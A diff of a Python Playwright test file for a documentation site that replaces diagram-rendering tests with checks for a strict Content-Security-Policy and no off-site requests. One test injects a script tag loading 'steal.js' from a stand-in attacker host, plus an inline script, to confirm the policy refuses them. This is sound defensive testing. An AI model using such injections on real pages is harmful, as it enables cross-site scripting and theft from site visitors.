@@ -1,84 +1,83 @@
-"""What a reader sees in Chromium: every diagram drawn, in light and in dark,
-sized to its content, with a visible fullscreen control, and no request that
-leaves the site."""
+"""What every page does in Chromium: it loads without errors, asks nothing of another
+host, runs no Mermaid, and nothing on it breaks its Content-Security-Policy, which
+refuses a script injected from anywhere else."""
+
+import re
 
 import pytest
-from conftest import DOCS, DRAWN, PAGES
+from conftest import PAGES
 
-DIAGRAM_PAGES = sorted(p.stem for p in DOCS.glob("*.md") if "{mermaid}" in p.read_text())
-
-REDRAWN = """() => [...document.querySelectorAll('pre.mermaid')].every(
-    pre => pre.querySelector('svg[aria-roledescription]:not([data-drawn-before])'))"""
-DIAGRAMS = """() => [...document.querySelectorAll('pre.mermaid')].map(pre => {
-    const svg = pre.querySelector('svg');
-    const box = svg ? svg.getBoundingClientRect() : {width: 0, height: 0};
-    const view = svg && svg.viewBox.baseVal;
-    return {
-        role: svg && svg.getAttribute('aria-roledescription'),
-        title: svg && svg.querySelector('title') && svg.querySelector('title').textContent,
-        text: pre.textContent,
-        width: box.width, height: box.height, boxHeight: pre.getBoundingClientRect().height,
-        expectedHeight: view && view.width ? box.width * view.height / view.width : 0,
-        naturalWidth: view ? view.width : 0,
-        ink: svg ? getComputedStyle(svg).fill : '',
-    };
-})"""
+CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
 
 
-def luminance(css_rgb: str) -> float:
-    r, g, b = (int(x) for x in css_rgb[css_rgb.index("(") + 1 : -1].split(",")[:3])
-    return (0.2126 * r + 0.7152 * g + 0.0722 * b) / 255
-
-
-def assert_drawn(diagrams: list[dict]) -> None:
-    for d in diagrams:
-        assert d["role"] not in {None, "error"}, f"Mermaid drew an error: {d['text'][:200]}"
-        assert "Syntax error" not in d["text"]
-        assert min(d["width"], d["height"]) > 0, "the diagram has no size"
-        assert d["title"], "the diagram has no accessible title (accTitle)"
-
-
-@pytest.mark.parametrize("name", PAGES)
-def test_page_loads_without_errors_or_requests_to_other_hosts(visit, name):
-    v = visit(name)
+@pytest.mark.parametrize("theme", ["light", "dark"])
+@pytest.mark.parametrize("name", [*PAGES, "search"])
+def test_page_loads_without_errors_requests_elsewhere_or_policy_violations(visit, name, theme):
+    v = visit(name, color_scheme=theme)
+    v.set_theme(theme)
+    v.page.wait_for_timeout(50)
     assert v.errors == []
     assert v.blocked == [], f"{len(v.blocked)} requests left the site"
+    assert v.csp_violations() == []
 
 
-@pytest.mark.parametrize("name", DIAGRAM_PAGES)
-def test_diagrams_are_drawn_in_light_and_again_in_dark(visit, name):
+@pytest.mark.parametrize("name", [*PAGES, "search"])
+def test_page_requests_no_mermaid_javascript(visit, name):
     v = visit(name)
-    v.set_theme("light")
-    v.page.wait_for_function(DRAWN)
-    light = v.page.evaluate(DIAGRAMS)
-    assert light, f"{name} includes a diagram but none is on the page"
-    assert_drawn(light)
-    assert all(luminance(d["ink"]) < 0.5 for d in light), "light theme should draw dark text"
-
-    v.page.evaluate("document.querySelectorAll('pre.mermaid svg').forEach(s => s.dataset.drawnBefore = '1')")
-    v.set_theme("dark")
-    v.page.wait_for_function(REDRAWN, timeout=20_000)
-    dark = v.page.evaluate(DIAGRAMS)
-    assert_drawn(dark)
-    assert all(luminance(d["ink"]) > 0.5 for d in dark), "dark theme should draw light text"
-    assert v.errors == []
+    assert [url for url in v.requests if "mermaid" in url.lower() or url.endswith(".mjs")] == []
+    assert v.page.evaluate("typeof window.mermaid") == "undefined"
 
 
-@pytest.mark.parametrize("name", DIAGRAM_PAGES)
-def test_diagrams_are_sized_to_their_content(visit, name):
-    for d in visit(name).page.evaluate(DIAGRAMS):
-        assert abs(d["height"] - d["expectedHeight"]) < 4, "the SVG is stretched or boxed"
-        assert d["boxHeight"] - d["height"] < 40, "white space around the diagram"
-        assert d["width"] <= d["naturalWidth"] + 1, "the diagram is blown up beyond the size Mermaid drew"
+def directives(policy: str) -> dict[str, list[str]]:
+    return {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}
 
 
-@pytest.mark.parametrize("name", DIAGRAM_PAGES[:1])
-def test_fullscreen_control_shows_a_visible_icon(visit, name):
-    page = visit(name).page
-    button = page.locator(".mermaid-fullscreen-btn").first
-    assert button.get_attribute("aria-label")
-    with_icon = button.screenshot()
-    page.add_style_tag(content=".mermaid-fullscreen-btn::before { visibility: hidden }")
-    assert button.screenshot() != with_icon, "the button looks the same without its icon"
-    button.click()
-    assert page.locator(".mermaid-fullscreen-modal.active svg").count() == 1
+def test_every_page_carries_a_strict_content_security_policy(site):
+    for path in site.pages():
+        html = path.read_text(encoding="utf-8")
+        found = CSP_META.search(html)
+        assert found, f"{path.name}: no Content-Security-Policy"
+        assert html.index("Content-Security-Policy") < html.index("<script"), (
+            f"{path.name}: policy after a script"
+        )
+        policy = directives(found[1])
+        assert policy["script-src"][0] == "'self'"
+        assert all(source.startswith("'sha256-") for source in policy["script-src"][1:]), policy["script-src"]
+        assert "'unsafe-eval'" not in found[1]
+        assert policy["object-src"] == ["'none'"]
+        assert policy["base-uri"] == ["'self'"]
+        assert policy["form-action"] == ["'self'"]
+        assert not re.search(r"https?:|\*", found[1]), "the policy allows another host"
+
+
+INJECTED = '<script src="https://scripts.example/steal.js"></script><script>window.inlineRan = true</script>'
+
+
+def test_a_script_injected_into_a_page_is_refused_by_the_policy(visit, site_url):
+    """A built page, with a script tag from another host and an inline script added, as an
+    attacker would: the policy refuses both. Without the policy the same scripts run."""
+
+    def open_with_injection(keep_policy: bool):
+        v = visit("search")
+        page = v.page
+
+        def injected_page(route):
+            html = route.fetch().text()
+            if not keep_policy:
+                html = CSP_META.sub("", html)
+            route.fulfill(body=html.replace("</head>", INJECTED + "</head>"), content_type="text/html")
+
+        def other_host(route):
+            route.fulfill(body="window.stolen = true;", content_type="text/javascript")
+
+        page.route(site_url + "index.html", injected_page)
+        page.route("https://scripts.example/**", other_host)
+        page.goto(site_url + "index.html", wait_until="load")
+        return page.evaluate("[window.stolen === true, window.inlineRan === true]"), v
+
+    (stolen, inline_ran), v = open_with_injection(keep_policy=True)
+    assert (stolen, inline_ran) == (False, False)
+    assert any(violation.startswith("script-src") for violation in v.csp_violations())
+    assert open_with_injection(keep_policy=False)[0] == [True, True], (
+        "the injected scripts should run unprotected"
+    )
